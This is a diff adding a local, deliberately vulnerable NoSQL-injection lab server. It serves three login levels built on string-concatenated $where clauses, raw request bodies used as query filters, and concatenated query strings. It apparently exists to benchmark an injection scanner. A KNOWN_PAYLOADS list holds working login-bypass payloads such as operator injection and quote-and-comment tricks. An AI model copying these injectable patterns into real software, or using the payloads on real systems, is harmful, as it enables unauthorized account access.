@@ -0,0 +1,676 @@
+"""
+Local stand-in for the NoSQL injection lab server, for benchmarking the
+scanner, attacker and full pipeline with no network.
+
+Usage:
+    python testing/nosql_lab.py [--port 3000] [--latency 0.05] [--response-bytes 4096]
+    python testing/nosql_lab.py --selfcheck
+
+Serves the three lab levels from testing/server-tests.ipynb over an
+in-memory user collection:
+
+    level1  $where built by string concatenation:
+            this.username == '<username>' && this.password == '<password>'
+    level2  the request body is the query filter (operator injection: $ne, $gt, ...)
+    level3  a query string built by concatenation, with /* */ comments:
+            username = '<username>' and password = '<password>'
+
+GET /levelN is a login form posting to /levelN/login, which takes JSON or
+form bodies (password[$ne]=x style keys become operator objects). A login
+that matches admin without admin's password is an exploit; the requests and
+seconds each level took to its first exploit are printed and served at
+GET /stats (POST /reset clears them).
+"""
+import argparse
+import json
+import re
+import secrets
+import sys
+import threading
+import time
+import urllib.parse
+import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+
+FLAG = "CTF{n0sql_byp455}"
+USERS = [
+    {"_id": 1, "username": "admin", "password": "S3cure-Adm1n-Pa55", "role": "admin"},
+    {"_id": 2, "username": "guest", "password": "guest", "role": "user"},
+]
+MAX_SLEEP_MS = 10_000
+
+
+class QueryError(Exception):
+    """A query the lab's database rejects; surfaced like a driver error."""
+
+
+# ============================================================================
+# $where: A SMALL JAVASCRIPT SUBSET
+# ============================================================================
+# Enough JavaScript for the usual $where payloads: string/number literals,
+# this.<field>, .length, == === != !== < > <= >=, && || !, parentheses,
+# statements separated by ';', return, function() { ... } and sleep(ms).
+_JS_TOKEN = re.compile(r"""
+    (?P<space>\s+)
+  | (?P<comment>//[^\n]*|/\*.*?(?:\*/|\Z))
+  | (?P<string>'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*")
+  | (?P<number>\d+(?:\.\d+)?)
+  | (?P<name>[A-Za-z_$][\w$]*)
+  | (?P<op>===|!==|==|!=|<=|>=|&&|\|\||[<>!(){};.,])
+""", re.X | re.S)
+
+
+def _tokenize(source: str, pattern: re.Pattern) -> list[tuple[str, str]]:
+    tokens, pos = [], 0
+    while pos < len(source):
+        m = pattern.match(source, pos)
+        if not m:
+            raise QueryError(f"SyntaxError: Invalid or unexpected token at position {pos}")
+        pos = m.end()
+        if m.lastgroup not in ("space", "comment"):
+            tokens.append((m.lastgroup, m.group()))
+    return tokens
+
+
+def _unquote(literal: str) -> str:
+    return re.sub(r"\\(.)", r"\1", literal[1:-1])
+
+
+class _JsParser:
+    def __init__(self, source: str) -> None:
+        self.tokens = _tokenize(source, _JS_TOKEN)
+        self.pos = 0
+
+    def peek(self) -> str:
+        return self.tokens[self.pos][1] if self.pos < len(self.tokens) else ""
+
+    def take(self, expected: str = None) -> tuple[str, str]:
+        if self.pos >= len(self.tokens):
+            raise QueryError("SyntaxError: Unexpected end of input")
+        token = self.tokens[self.pos]
+        if expected is not None and token[1] != expected:
+            raise QueryError(f"SyntaxError: Unexpected token '{token[1]}'")
+        self.pos += 1
+        return token
+
+    def program(self, closing: str = "") -> tuple:
+        statements = []
+        while self.peek() != closing:
+            if self.peek() == ";":
+                self.take()
+                continue
+            if self.peek() == "return":
+                self.take()
+                statements.append(("return", self.expression()))
+            else:
+                statements.append(self.expression())
+            if self.peek() not in (";", closing):
+                raise QueryError(f"SyntaxError: Unexpected token '{self.peek()}'")
+        return ("program", statements)
+
+    def expression(self) -> tuple:
+        return self._binary(0)
+
+    _LEVELS = (("||",), ("&&",), ("==", "===", "!=", "!=="), ("<", ">", "<=", ">="))
+
+    def _binary(self, level: int) -> tuple:
+        if level == len(self._LEVELS):
+            return self.unary()
+        node = self._binary(level + 1)
+        while self.peek() in self._LEVELS[level]:
+            op = self.take()[1]
+            node = ("binary", op, node, self._binary(level + 1))
+        return node
+
+    def unary(self) -> tuple:
+        if self.peek() == "!":
+            self.take()
+            return ("not", self.unary())
+        return self.member(self.primary())
+
+    def member(self, node: tuple) -> tuple:
+        while self.peek() == ".":
+            self.take()
+            kind, name = self.take()
+            if kind != "name":
+                raise QueryError(f"SyntaxError: Unexpected token '{name}'")
+            if node == ("this",):
+                node = ("field", name)
+            elif name == "length":
+                node = ("length", node)
+            else:
+                raise QueryError(f"TypeError: unsupported property access '.{name}'")
+        return node
+
+    def primary(self) -> tuple:
+        kind, value = self.take()
+        if kind == "string":
+            return ("literal", _unquote(value))
+        if kind == "number":
+            return ("literal", float(value))
+        if value == "(":
+            node = self.expression()
+            self.take(")")
+            return node
+        if kind != "name":
+            raise QueryError(f"SyntaxError: Unexpected token '{value}'")
+        if value in ("true", "false"):
+            return ("literal", value == "true")
+        if value in ("null", "undefined"):
+            return ("literal", None)
+        if value == "this":
+            return ("this",)
+        if value == "function":
+            self.take("(")
+            self.take(")")
+            self.take("{")
+            body = self.program(closing="}")
+            self.take("}")
+            return body
+        if value == "sleep":
+            self.take("(")
+            duration = self.expression()
+            self.take(")")
+            return ("sleep", duration)
+        raise QueryError(f"ReferenceError: {value} is not defined")
+
+
+def _to_number(value) -> float:
+    if value is None or value is False:
+        return 0.0
+    if value is True:
+        return 1.0
+    if isinstance(value, (int, float)):
+        return float(value)
+    try:
+        return float(value) if str(value).strip() else 0.0
+    except ValueError:
+        return float("nan")
+
+
+def _truthy(value) -> bool:
+    if isinstance(value, float) and value != value:
+        return False
+    return value not in (None, False, 0, "")
+
+
+def _compare(op: str, a, b) -> bool:
+    if op in ("===", "!=="):
+        same = type(a) is type(b) or (isinstance(a, (int, float)) and isinstance(b, (int, float)))
+        return (same and a == b) == (op == "===")
+    if op in ("==", "!="):
+        if a is None or b is None:
+            equal = a is None and b is None
+        elif isinstance(a, str) and isinstance(b, str):
+            equal = a == b
+        else:
+            equal = _to_number(a) == _to_number(b)
+        return equal == (op == "==")
+    if not (isinstance(a, str) and isinstance(b, str)):
+        a, b = _to_number(a), _to_number(b)
+    return {"<": a < b, ">": a > b, "<=": a <= b, ">=": a >= b}[op]
+
+
+class _Return(Exception):
+    def __init__(self, value) -> None:
+        self.value = value
+
+
+def _evaluate(node: tuple, doc: dict):
+    kind = node[0]
+    if kind == "literal":
+        return node[1]
+    if kind == "field":
+        return doc.get(node[1])
+    if kind == "this":
+        return doc
+    if kind == "length":
+        value = _evaluate(node[1], doc)
+        if not isinstance(value, (str, list)):
+            raise QueryError("TypeError: Cannot read properties of undefined (reading 'length')")
+        return float(len(value))
+    if kind == "not":
+        return not _truthy(_evaluate(node[1], doc))
+    if kind == "sleep":
+        time.sleep(min(_to_number(_evaluate(node[1], doc)) or 0.0, MAX_SLEEP_MS) / 1000)
+        return None
+    if kind == "binary":
+        op, left = node[1], _evaluate(node[2], doc)
+        if op == "||":
+            return left if _truthy(left) else _evaluate(node[3], doc)
+        if op == "&&":
+            return _evaluate(node[3], doc) if _truthy(left) else left
+        return _compare(op, left, _evaluate(node[3], doc))
+    if kind == "return":
+        raise _Return(_evaluate(node[1], doc))
+    if kind == "program":
+        value = None
+        try:
+            for statement in node[1]:
+                value = _evaluate(statement, doc)
+        except _Return as r:
+            return r.value
+        return value
+    raise QueryError(f"unsupported expression {kind}")
+
+
+def eval_where(source: str, doc: dict) -> bool:
+    """Whether ``doc`` satisfies a $where expression or function."""
+    if not isinstance(source, str):
+        raise QueryError("$where requires a string")
+    parser = _JsParser(source)
+    program = parser.program()
+    return _truthy(_evaluate(program, doc))
+
+
+# ============================================================================
+# QUERY FILTERS (level2)
+# ============================================================================
+def _ordered(op: str, value, arg) -> bool:
+    if value is None or arg is None:
+        return False
+    # Mixed types compare by their string forms, as the original lab did.
+    if not (isinstance(value, (int, float)) and isinstance(arg, (int, float))):
+        value, arg = str(value), str(arg)
+    return {"$gt": value > arg, "$gte": value >= arg, "$lt": value < arg, "$lte": value <= arg}[op]
+
+
+def _regex(value, arg, options: str = "") -> bool:
+    try:
+        pattern = re.compile(str(arg), re.I if "i" in options else 0)
+    except re.error as e:
+        raise QueryError(f"Regular expression is invalid: {e}")
+    return value is not None and pattern.search(str(value)) is not None
+
+
+def _match_field(value, condition) -> bool:
+    if not (isinstance(condition, dict) and any(str(k).startswith("$") for k in condition)):
+        return value == condition
+    for op, arg in condition.items():
+        if op == "$eq":
+            ok = value == arg
+        elif op == "$ne":
+            ok = value != arg
+        elif op in ("$gt", "$gte", "$lt", "$lte"):
+            ok = _ordered(op, value, arg)
+        elif op in ("$in", "$nin"):
+            if not isinstance(arg, list):
+                raise QueryError(f"{op} needs an array")
+            ok = (value in arg) == (op == "$in")
+        elif op == "$exists":
+            ok = (value is not None) == bool(arg)
+        elif op == "$regex":
+            ok = _regex(value, arg, condition.get("$options", ""))
+        elif op == "$options":
+            ok = True
+        elif op == "$not":
+            ok = not _match_field(value, arg)
+        else:
+            raise QueryError(f"unknown operator: {op}")
+        if not ok:
+            return False
+    return True
+
+
+def match(doc: dict, query) -> bool:
+    """Whether ``doc`` matches a Mongo-style filter."""
+    if not isinstance(query, dict):
+        raise QueryError("query filter must be an object")
+    for key, condition in query.items():
+        if key == "$where":
+            ok = eval_where(condition, doc)
+        elif key in ("$or", "$and", "$nor"):
+            if not isinstance(condition, list) or not condition:
+                raise QueryError(f"{key} must be a nonempty array")
+            results = [match(doc, sub) for sub in condition]
+            ok = {"$or": any(results), "$and": all(results), "$nor": not any(results)}[key]
+        elif key.startswith("$"):
+            raise QueryError(f"unknown top level operator: {key}")
+        else:
+            ok = _match_field(doc.get(key), condition)
+        if not ok:
+            return False
+    return True
+
+
+# ============================================================================
+# CONCATENATED QUERY STRINGS (level3)
+# ============================================================================
+_QUERY_TOKEN = re.compile(r"""
+    (?P<space>\s+)
+  | (?P<comment>/\*.*?(?:\*/|\Z))
+  | (?P<string>'[^']*')
+  | (?P<number>\d+(?:\.\d+)?)
+  | (?P<name>[A-Za-z_]\w*)
+  | (?P<op>!=|<=|>=|=|<|>|[()])
+""", re.X | re.S)
+
+
+def eval_query_string(source: str, doc: dict) -> bool:
+    """Evaluate ``field op literal`` clauses joined by and/or (and parentheses)."""
+    tokens = _tokenize(source, _QUERY_TOKEN)
+    pos = 0
+
+    def take():
+        nonlocal pos
+        if pos >= len(tokens):
+            raise QueryError("syntax error: unexpected end of query")
+        pos += 1
+        return tokens[pos - 1]
+
+    def peek() -> str:
+        return tokens[pos][1].lower() if pos < len(tokens) else ""
+
+    def disjunction() -> bool:
+        result = conjunction()
+        while peek() == "or":
+            take()
+            result = conjunction() or result
+        return result
+
+    def conjunction() -> bool:
+        result = clause()
+        while peek() == "and":
+            take()
+            result = clause() and result
+        return result
+
+    def clause() -> bool:
+        kind, value = take()
+        if value == "(":
+            result = disjunction()
+            if take()[1] != ")":
+                raise QueryError("syntax error: expected ')'")
+            return result
+        if kind != "name":
+            raise QueryError(f"syntax error near '{value}'")
+        op = take()[1]
+        if op not in ("=", "!=", "<", ">", "<=", ">="):
+            raise QueryError(f"syntax error near '{op}'")
+        kind, literal = take()
+        operand = {"string": lambda: _unquote(literal), "number": lambda: float(literal)}.get(
+            kind, lambda: doc.get(literal)
+        )()
+        field = doc.get(value)
+        if field is None or operand is None:
+            return False
+        if isinstance(operand, float) != isinstance(field, (int, float)):
+            field, operand = str(field), str(operand)
+        return {"=": field == operand, "!=": field != operand, "<": field < operand,
+                ">": field > operand, "<=": field <= operand, ">=": field >= operand}[op]
+
+    result = disjunction()
+    if pos != len(tokens):
+        raise QueryError(f"syntax error near '{tokens[pos][1]}'")
+    return result
+
+
+# ============================================================================
+# LEVELS
+# ============================================================================
+def _js_string(value) -> str:
+    """What a JavaScript template literal makes of a request value."""
+    if isinstance(value, dict):
+        return "[object Object]"
+    if isinstance(value, list):
+        return ",".join(_js_string(v) for v in value)
+    if value is None:
+        return "undefined"
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    return str(value)
+
+
+def _level1(body: dict) -> list[dict]:
+    where = (
+        f"this.username == '{_js_string(body.get('username'))}' "
+        f"&& this.password == '{_js_string(body.get('password'))}'"
+    )
+    return [doc for doc in USERS if match(doc, {"$where": where})]
+
+
+def _level2(body: dict) -> list[dict]:
+    return [doc for doc in USERS if match(doc, body)]
+
+
+def _level3(body: dict) -> list[dict]:
+    username, password = body.get("username"), body.get("password")
+    if not isinstance(username, str) or not isinstance(password, str):
+        raise ValueError("username and password must be strings")
+    query = f"username = '{username}' and password = '{password}'"
+    return [doc for doc in USERS if eval_query_string(query, doc)]
+
+
+LEVELS = {"level1": _level1, "level2": _level2, "level3": _level3}
+
+
+def parse_form(body: str) -> dict:
+    """Form body to a dict; ``password[$ne]=x`` becomes {"password": {"$ne": "x"}}."""
+    parsed: dict = {}
+    for key, value in urllib.parse.parse_qsl(body, keep_blank_values=True):
+        m = re.fullmatch(r"([^\[]+)\[([^\]]*)\]", key)
+        if m:
+            parsed.setdefault(m.group(1), {})
+            if isinstance(parsed[m.group(1)], dict):
+                parsed[m.group(1)][m.group(2)] = value
+        else:
+            parsed[key] = value
+    return parsed
+
+
+class LabStats:
+    """Per level: requests served and the request count and time of the first exploit."""
+
+    def __init__(self) -> None:
+        self._lock = threading.Lock()
+        self.reset()
+
+    def reset(self) -> None:
+        with self._lock:
+            self.levels = {
+                level: {"requests": 0, "logins": 0, "started": None,
+                        "exploited_after_requests": None, "exploited_after_seconds": None}
+                for level in LEVELS
+            }
+
+    def request(self, level: str, login: bool) -> None:
+        with self._lock:
+            stats = self.levels[level]
+            stats["requests"] += 1
+            stats["logins"] += int(login)
+            if stats["started"] is None:
+                stats["started"] = time.perf_counter()
+
+    def exploited(self, level: str) -> None:
+        with self._lock:
+            stats = self.levels[level]
+            if stats["exploited_after_requests"] is not None:
+                return
+            stats["exploited_after_requests"] = stats["requests"]
+            stats["exploited_after_seconds"] = round(time.perf_counter() - stats["started"], 3)
+        print(
+            f"[lab] {level} exploited after {stats['exploited_after_requests']} requests, "
+            f"{stats['exploited_after_seconds']:.2f}s"
+        )
+
+    def snapshot(self) -> dict:
+        with self._lock:
+            return {level: {k: v for k, v in stats.items() if k != "started"} for level, stats in self.levels.items()}
+
+
+def _login_page(level: str) -> str:
+    return f"""<!DOCTYPE html>
+<html>
+<head><title>{level} - Login</title></head>
+<body>
+  <h1>Member login</h1>
+  <form action="/{level}/login" method="POST">
+    <label for="username">Username</label>
+    <input type="text" id="username" name="username">
+    <label for="password">Password</label>
+    <input type="password" id="password" name="password">
+    <button type="submit">Log in</button>
+  </form>
+</body>
+</html>
+"""
+
+
+def make_handler(latency: float, response_bytes: int, stats: LabStats):
+    class NoSQLLabHandler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def log_message(self, fmt, *args):
+            pass
+
+        def _send(self, status: int, body: str, content_type: str, headers: dict = None) -> None:
+            shortfall = response_bytes - len(body.encode())
+            if shortfall > 0:
+                if content_type == "application/json":
+                    payload = json.loads(body)
+                    payload["notice"] = "x" * max(0, shortfall - len(', "notice": ""'))
+                    body = json.dumps(payload)
+                else:
+                    body += f"<!-- {'x' * max(0, shortfall - 9)} -->"
+            data = body.encode()
+            self.send_response(status)
+            self.send_header("Content-Type", content_type)
+            self.send_header("Content-Length", str(len(data)))
+            for name, value in (headers or {}).items():
+                self.send_header(name, value)
+            self.end_headers()
+            self.wfile.write(data)
+
+        def _send_json(self, payload: dict, status: int = 200, headers: dict = None) -> None:
+            self._send(status, json.dumps(payload), "application/json", headers)
+
+        def do_GET(self):
+            time.sleep(latency)
+            path = urllib.parse.urlparse(self.path).path.rstrip("/")
+            if path == "/stats":
+                self._send_json(stats.snapshot())
+            elif path in ("", "/index.html"):
+                links = "".join(f'<li><a href="/{level}">{level}</a></li>' for level in LEVELS)
+                self._send(200, f"<html><body><h1>NoSQL lab</h1><ul>{links}</ul></body></html>", "text/html")
+            elif path.strip("/") in LEVELS:
+                level = path.strip("/")
+                stats.request(level, login=False)
+                self._send(200, _login_page(level), "text/html")
+            else:
+                self._send_json({"error": "not found"}, status=404)
+
+        def do_POST(self):
+            time.sleep(latency)
+            length = int(self.headers.get("Content-Length") or 0)
+            raw = self.rfile.read(length).decode("utf-8", errors="replace")
+            path = urllib.parse.urlparse(self.path).path.rstrip("/")
+            if path == "/reset":
+                stats.reset()
+                self._send_json({"reset": True})
+                return
+            level = path.strip("/").removesuffix("/login")
+            if level not in LEVELS or not path.endswith("/login"):
+                self._send_json({"error": "not found"}, status=404)
+                return
+            stats.request(level, login=True)
+
+            try:
+                if "json" in (self.headers.get("Content-Type") or ""):
+                    body = json.loads(raw or "{}")
+                else:
+                    body = parse_form(raw)
+                if not isinstance(body, dict) or "username" not in body or "password" not in body:
+                    raise ValueError("username and password are required")
+            except ValueError as e:
+                self._send_json({"success": False, "message": f"Bad request: {e}"}, status=400)
+                return
+
+            try:
+                users = LEVELS[level](body)
+            except ValueError as e:
+                self._send_json({"success": False, "message": f"Bad request: {e}"}, status=400)
+                return
+            except (QueryError, RecursionError) as e:
+                self._send_json({"success": False, "message": f"MongoServerError: {e}"}, status=500)
+                return
+
+            if not users:
+                self._send_json({"success": False, "message": "Invalid username or password"}, status=401)
+                return
+            user = users[0]
+            response = {"success": True, "message": "Login successful", "user": user["username"]}
+            if user["role"] == "admin":
+                response["secret"] = FLAG
+                if body.get("password") != user["password"]:
+                    stats.exploited(level)
+            cookie = f"session={secrets.token_hex(16)}; Path=/; HttpOnly"
+            self._send_json(response, headers={"Set-Cookie": cookie})
+
+    return NoSQLLabHandler
+
+
+def serve(port: int = 3000, latency: float = 0.0, response_bytes: int = 0, background: bool = False) -> ThreadingHTTPServer:
+    """Start the lab on ``port``; with ``background`` it runs in a daemon thread."""
+    stats = LabStats()
+    server = ThreadingHTTPServer(("127.0.0.1", port), make_handler(latency, response_bytes, stats))
+    server.stats = stats
+    if background:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+    else:
+        print(f"NoSQL lab listening on http://127.0.0.1:{port} (levels: {', '.join(LEVELS)})")
+        try:
+            server.serve_forever()
+        except KeyboardInterrupt:
+            print(json.dumps(stats.snapshot(), indent=2))
+    return server
+
+
+# The payloads from testing/server-tests.ipynb, plus one that must fail per level.
+KNOWN_PAYLOADS = [
+    ("level1", {"username": "admin' || '1' == '1", "password": "randompassword"}, True),
+    ("level1", {"username": "admin' || this.username == 'admin", "password": "randompassword"}, True),
+    ("level1", {"username": "' || this.username == 'admin' || '", "password": "randompassword"}, True),
+    ("level1", {"username": "admin", "password": "randompassword"}, False),
+    ("level2", {"username": "admin", "password": {"$ne": None}}, True),
+    ("level2", {"username": "admin", "password": {"$ne": "bar"}}, True),
+    ("level2", {"username": "admin", "password": {"$gt": 0}}, True),
+    ("level2", {"username": "admin", "password": {"$gt": ""}}, True),
+    ("level2", {"username": "admin", "password": "bar"}, False),
+    ("level3", {"username": "admin'/*", "password": "*/ and password >'"}, True),
+    ("level3", {"username": "admin", "password": {"$ne": None}}, False),
+]
+
+
+def selfcheck(port: int = 3999) -> bool:
+    """Run the notebook's payloads against a background lab and report any mismatch."""
+    server = serve(port, background=True)
+    ok = True
+    for level, payload, expected in KNOWN_PAYLOADS:
+        request = urllib.request.Request(
+            f"http://127.0.0.1:{port}/{level}/login",
+            data=json.dumps(payload).encode(),
+            headers={"Content-Type": "application/json"},
+        )
+        try:
+            with urllib.request.urlopen(request) as response:
+                success = json.load(response).get("secret") == FLAG
+        except urllib.error.HTTPError:
+            success = False
+        ok &= success == expected
+        print(f"  {'ok  ' if success == expected else 'FAIL'} {level} {json.dumps(payload)} -> {success}")
+    print(json.dumps(server.stats.snapshot(), indent=2))
+    server.shutdown()
+    return ok
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Local vulnerable NoSQL lab server")
+    parser.add_argument("--port", type=int, default=3000)
+    parser.add_argument("--latency", type=float, default=0.0, help="Seconds to sleep before each reply")
+    parser.add_argument("--response-bytes", type=int, default=0, help="Pad every response to at least this size")
+    parser.add_argument("--selfcheck", action="store_true", help="Check the known payloads against the levels and exit")
+    args = parser.parse_args()
+    if args.selfcheck:
+        sys.exit(0 if selfcheck() else 1)
+    serve(args.port, args.latency, args.response_bytes)